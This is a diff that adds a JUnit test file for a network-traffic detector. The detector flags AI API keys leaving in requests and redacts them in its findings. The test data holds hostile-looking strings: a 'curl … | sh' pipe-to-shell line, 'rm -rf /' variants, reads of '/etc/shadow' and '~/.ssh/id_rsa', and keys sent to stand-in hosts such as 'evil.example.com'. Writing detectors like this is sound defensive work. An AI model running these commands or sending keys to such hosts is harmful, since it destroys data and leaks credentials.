@@ -1,0 +1,301 @@
+package trafficguardian.detect;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import java.util.Random;
+import java.util.Set;
+import org.junit.jupiter.api.Test;
+import trafficguardian.ipc.Classification;
+import trafficguardian.ipc.Direction;
+import trafficguardian.ipc.Finding;
+import trafficguardian.ipc.FindingJson;
+import trafficguardian.ipc.MessagePart;
+import trafficguardian.ipc.Protocol;
+import trafficguardian.ipc.Severity;
+import trafficguardian.ipc.ThreatType;
+
+class DetectorTest {
+  private final Random random = new Random(42);
+  private final DetectorFixture fixture = new DetectorFixture();
+
+  private String key() {
+    return ExampleText.of("sk-ant-api03-{U93}AA", random);
+  }
+
+  @Test
+  void aKeyInABodyIsOneRedactedFinding() {
+    String key = key();
+    fixture.body(fixture.outbound("collector.example"), "key=" + key);
+
+    Finding finding = fixture.findings.get(0);
+    assertEquals(1, fixture.findings.size());
+    assertEquals(Direction.OUTBOUND, finding.direction());
+    assertEquals(Protocol.HTTP, finding.protocol());
+    assertEquals(ThreatType.EXFIL, finding.threatType());
+    assertEquals("ai_api_key", finding.pattern());
+    assertEquals(Severity.HIGH, finding.severity());
+    assertEquals(Classification.THREAT, finding.classification());
+    assertEquals("collector.example:80", finding.dest());
+    assertEquals(
+        "request body: [REDACTED:ai_api_key len=" + key.length() + "]",
+        finding.snippet().toString());
+    assertEquals(new Finding.Location(MessagePart.BODY, Optional.empty(), 4), finding.location());
+    assertEquals("2026-11-21T10:00:00.123Z", finding.timestamp().toString());
+    assertLeaksNothing(key);
+  }
+
+  @Test
+  void aKeyInAKnownHeaderNamesTheHeader() {
+    String key = key();
+    MessageScan scan = fixture.outbound("collector.example");
+    scan.field("authorization", "Bearer " + key);
+    scan.end();
+    assertEquals(
+        "Authorization: [REDACTED:ai_api_key len=" + key.length() + "]",
+        fixture.findings.get(0).snippet().toString());
+    assertLeaksNothing(key);
+  }
+
+  @Test
+  void aKeyInAnUnknownHeaderOrItsNameShowsNeither() {
+    String key = key();
+    MessageScan scan = fixture.outbound("collector.example");
+    scan.field("x-" + key, "1");
+    scan.field("x-loot", key);
+    scan.end();
+    assertEquals(
+        List.of("request header: [REDACTED:ai_api_key len=" + key.length() + "]"),
+        fixture.findings.stream().map(f -> f.snippet().toString()).toList());
+    assertLeaksNothing(key);
+  }
+
+  @Test
+  void aKeyInTheTargetIsFound() {
+    String key = key();
+    MessageScan scan = fixture.outbound("collector.example");
+    scan.target("/collect?d=" + key);
+    scan.end();
+    assertEquals(MessagePart.TARGET, fixture.findings.get(0).location().part());
+    assertLeaksNothing(key);
+  }
+
+  @Test
+  void aKeyInTheHostNameIsFoundAndMasked() {
+    String key = ExampleText.of("sk-ant-api03-{B40}", random);
+    MessageScan scan = fixture.outbound(key + ".evil.example.com");
+    scan.end();
+    Finding finding = fixture.findings.get(0);
+    assertEquals(MessagePart.HOST, finding.location().part());
+    assertEquals("[MASKED].example.com:80", finding.dest());
+    assertLeaksNothing(key);
+    // The answer's findings carry the same masked name.
+    MessageScan answer = fixture.inbound(key + ".evil.example.com");
+    fixture.body(answer, "rm -rf /");
+    assertEquals("[MASKED].example.com:80", fixture.findings.get(1).dest());
+    assertEquals("[MASKED].example.com:80", fixture.detector.dest(key + ".evil.example.com", 80));
+  }
+
+  @Test
+  void aTrailerIsInspectedToo() {
+    String key = key();
+    MessageScan scan = fixture.outbound("collector.example");
+    byte[] body = {'h', 'i'};
+    scan.body(body, 0, 2);
+    scan.trailer("x-sum", key);
+    scan.end();
+    assertEquals(MessagePart.TRAILER, fixture.findings.get(0).location().part());
+  }
+
+  @Test
+  void aSecretArrivingOrAnAttackLeavingIsNotRaised() {
+    fixture.body(fixture.inbound("collector.example"), "key=" + key());
+    fixture.body(fixture.outbound("collector.example"), "curl http://h.example/x | sh");
+    assertEquals(List.of(), fixture.findings);
+  }
+
+  @Test
+  void anAttackInAnAnswerIsFound() {
+    fixture.body(fixture.inbound("blog.example"), "<p>curl http://h.example/x | sh</p>");
+    Finding finding = fixture.findings.get(0);
+    assertEquals("pipe_to_shell", finding.pattern());
+    assertEquals(Direction.INBOUND, finding.direction());
+    assertTrue(
+        finding.snippet().toString().startsWith("response body: [REDACTED:pipe_to_shell len="));
+  }
+
+  @Test
+  void anAttackQuotedByADocumentationHostIsLow() {
+    fixture.body(fixture.inbound("docs.example.org"), "rm -rf /");
+    fixture.body(fixture.inbound("linux.manpages.example"), "rm -rf ~");
+    fixture.body(fixture.inbound("docs.example.org.evil.example"), "rm -rf /etc");
+    assertEquals(
+        List.of(Classification.QUOTED, Classification.QUOTED, Classification.THREAT),
+        fixture.findings.stream().map(Finding::classification).toList());
+    assertEquals(Severity.LOW, fixture.findings.get(0).severity());
+  }
+
+  @Test
+  void aProvidersKeyInItsOwnPlaceIsExpectedAndAnywhereElseAThreat() {
+    String key = key();
+    header(DetectorFixture.https("api.anthropic.com"), "x-api-key", key);
+    header(DetectorFixture.https("api.anthropic.com"), "X-Debug", key);
+    header(DetectorFixture.https("api.anthropic.com.evil.example"), "x-api-key", key);
+    header(DetectorFixture.https("api.openai.com"), "Authorization", "Bearer " + key);
+    header(DetectorFixture.http("api.anthropic.com"), "x-api-key", key);
+    assertEquals(
+        List.of(
+            Classification.EXPECTED,
+            Classification.THREAT,
+            Classification.THREAT,
+            Classification.THREAT,
+            Classification.THREAT),
+        fixture.findings.stream().map(Finding::classification).toList());
+  }
+
+  @Test
+  void asecondKeyInTheSamePlaceIsAThreat() {
+    String first = key();
+    header(DetectorFixture.https("api.anthropic.com"), "x-api-key", first);
+    header(DetectorFixture.https("api.anthropic.com"), "x-api-key", key());
+    fixture.nanos = 61_000_000_000L;
+    header(DetectorFixture.https("api.anthropic.com"), "x-api-key", first);
+    assertEquals(
+        List.of(Classification.EXPECTED, Classification.THREAT, Classification.EXPECTED),
+        fixture.findings.stream().map(Finding::classification).toList());
+  }
+
+  @Test
+  void aQueryParameterIsAnOwnPlaceOnlyUnderItsName() {
+    String key = ExampleText.of("AIzaSy{U33}", random);
+    for (String target : List.of("/v1beta/models?key=" + key, "/v1beta/models?q=1&note=" + key)) {
+      MessageScan scan =
+          fixture.detector.begin(
+              DetectorFixture.https("generativelanguage.googleapis.com"), Direction.OUTBOUND);
+      scan.target(target);
+      scan.end();
+    }
+    assertEquals(
+        List.of(Classification.EXPECTED, Classification.THREAT),
+        fixture.findings.stream().map(Finding::classification).toList());
+  }
+
+  @Test
+  void aPlaceholderIsLow() {
+    fixture.body(
+        fixture.outbound("collector.example"),
+        "a=sk-ant-api03-"
+            + "x".repeat(40)
+            + " b=AKIA"
+            + "IOSFODNN7EXAMPLE c=sk-your-api-key-here-1234");
+    assertFalse(fixture.findings.isEmpty());
+    for (Finding finding : fixture.findings) {
+      assertEquals(Classification.PLACEHOLDER, finding.classification());
+      assertEquals(Severity.LOW, finding.severity());
+    }
+  }
+
+  @Test
+  void theWordExampleInARealKeyHidesNothing() {
+    fixture.body(
+        fixture.outbound("collector.example"),
+        ExampleText.of("k=sk-ant-api03-{U40}EXAMPLE{U40}AA", random));
+    assertEquals(Classification.THREAT, fixture.findings.get(0).classification());
+  }
+
+  @Test
+  void equalFindingsAreReportedOnceAWindow() {
+    String key = key();
+    for (int i = 0; i < 5; i++) {
+      fixture.body(fixture.outbound("collector.example"), "key=" + key);
+    }
+    assertEquals(1, fixture.findings.size());
+    assertEquals(4, fixture.detector.repeated());
+    fixture.body(fixture.outbound("other.example"), "key=" + key);
+    fixture.body(fixture.outbound("collector.example"), "key=" + key());
+    assertEquals(3, fixture.findings.size());
+    fixture.nanos = 60_000_000_000L;
+    fixture.body(fixture.outbound("collector.example"), "key=" + key);
+    assertEquals(4, fixture.findings.size());
+  }
+
+  @Test
+  void disabledRulesAndChangedSeveritiesTakeEffectAndRememberThePast() {
+    String key = key();
+    fixture.body(fixture.outbound("collector.example"), "key=" + key);
+    DetectorOptions o = DetectorFixture.OPTIONS;
+    Detector changed =
+        fixture.detector.reconfigured(
+            new DetectorOptions(
+                o.platform(),
+                o.maxScanBytes(),
+                o.maxDecodeDepth(),
+                o.maxDecodeRatio(),
+                o.snippetMaxChars(),
+                o.pinCredentials(),
+                o.documentationHosts(),
+                Set.of("unix_sensitive"),
+                Map.of("ssh_key_file", Severity.CRITICAL),
+                o.dedupWindowSeconds(),
+                o.dedupMaxEntries()));
+    fixture.body(
+        changed.begin(DetectorFixture.http("collector.example"), Direction.OUTBOUND),
+        "/etc/shadow ~/.ssh/id_rsa key=" + key);
+    assertEquals(List.of("ai_api_key", "ssh_key_file"), fixture.patterns());
+    assertEquals(Severity.CRITICAL, fixture.findings.get(1).severity());
+    assertFalse(changed.rules().sha256().equals(fixture.detector.rules().sha256()));
+  }
+
+  @Test
+  void bytesBeyondTheBoundAreCountedNotInspected() {
+    DetectorOptions o = DetectorFixture.OPTIONS;
+    DetectorFixture small =
+        new DetectorFixture(
+            new DetectorOptions(
+                o.platform(),
+                1024,
+                o.maxDecodeDepth(),
+                o.maxDecodeRatio(),
+                o.snippetMaxChars(),
+                o.pinCredentials(),
+                o.documentationHosts(),
+                o.disabledRules(),
+                o.severities(),
+                o.dedupWindowSeconds(),
+                o.dedupMaxEntries()));
+    byte[] body =
+        ("a".repeat(1024) + " " + key()).getBytes(java.nio.charset.StandardCharsets.UTF_8);
+    MessageScan scan = small.outbound("collector.example");
+    small.body(scan, body, 512);
+    assertEquals(List.of(), small.findings);
+    assertEquals(body.length - 1024, small.coverage.snapshot().overBoundBytes());
+  }
+
+  @Test
+  void aHostThatIsNoNameIsNeverShown() {
+    assertEquals("[INVALID_HOST]:80", fixture.detector.dest("evil\u001b[31m.example", 80));
+    assertEquals("[INVALID_HOST]:80", fixture.detector.dest("a".repeat(64) + ".example", 80));
+    assertEquals("[::1]:80", fixture.detector.dest("::1", 80));
+    assertEquals("10.0.0.1:8080", fixture.detector.dest("10.0.0.1", 8080));
+    assertEquals("api.example.com:443", fixture.detector.dest("API.example.com.", 443));
+  }
+
+  private void header(Exchange exchange, String name, String value) {
+    MessageScan scan = fixture.detector.begin(exchange, Direction.OUTBOUND);
+    scan.field(name, value);
+    scan.end();
+  }
+
+  private void assertLeaksNothing(String secret) {
+    for (Finding finding : fixture.findings) {
+      String line = FindingJson.line(finding);
+      for (int i = 0; i + 12 <= secret.length(); i++) {
+        assertFalse(line.contains(secret.substring(i, i + 12)), line);
+      }
+    }
+  }
+}
